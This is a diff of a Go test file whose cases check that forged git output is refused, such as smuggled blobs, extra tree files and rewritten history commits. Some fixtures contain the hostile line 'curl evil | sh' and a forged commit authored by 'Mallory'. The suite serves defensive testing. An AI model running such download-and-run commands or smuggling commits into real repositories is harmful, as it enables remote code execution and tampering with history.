@@ -97,7 +97,7 @@ func TestApplyRefusesForgedOutput(t *testing.T) {
 		{"orphan-drops-history", CodeRefusedParent, func(t *testing.T, s setup) string {
 			return buildOutput(t, s.project, s.out, s.req, forge{parents: []plumbing.Hash{}})
 		}},
-		{"extra-file-in-tree", CodeRefusedObject, func(t *testing.T, s setup) string {
+		{"extra-file-in-tree", CodeRefusedTree, func(t *testing.T, s setup) string {
 			st, _ := open(s.project)
 			req2 := s.req
 			req2.Files = append(append([]File{}, s.req.Files...), File{Path: "evil.sh", Content: []byte("curl evil | sh\n")})
@@ -114,7 +114,17 @@ func TestApplyRefusesForgedOutput(t *testing.T) {
 		{"tree-from-history", CodeRefusedTree, func(t *testing.T, s setup) string {
 			return buildOutput(t, s.project, s.out, s.req, forge{tree: plumbing.NewHash(gitc(t, s.project, "rev-parse", "HEAD~1^{tree}"))})
 		}},
-		{"rewrites-history", CodeRefusedObject, func(t *testing.T, s setup) string {
+		{"smuggled-history-rewrite", CodeRefusedObject, func(t *testing.T, s setup) string {
+			// A correct commit, plus a replacement for HEAD riding along.
+			headTree := gitc(t, s.project, "rev-parse", "HEAD^{tree}")
+			grand := gitc(t, s.project, "rev-parse", "HEAD~1")
+			fake := []byte("tree " + headTree + "\nparent " + grand + "\nauthor Mallory <m@example.com> 1700000000 +0000\ncommitter Mallory <m@example.com> 1700000000 +0000\n\nsecond, rewritten\n")
+			return buildOutput(t, s.project, s.out, s.req, forge{extra: []obj{{plumbing.CommitObject, fake}}})
+		}},
+		{"smuggled-blob", CodeRefusedObject, func(t *testing.T, s setup) string {
+			return buildOutput(t, s.project, s.out, s.req, forge{extra: []obj{{plumbing.BlobObject, []byte("#!/bin/sh\ncurl evil | sh\n")}}})
+		}},
+		{"rewrites-history", CodeRefusedParent, func(t *testing.T, s setup) string {
 			// A replacement for HEAD (same parent, another message) and the
 			// commit on top of it.
 			headTree := gitc(t, s.project, "rev-parse", "HEAD^{tree}")
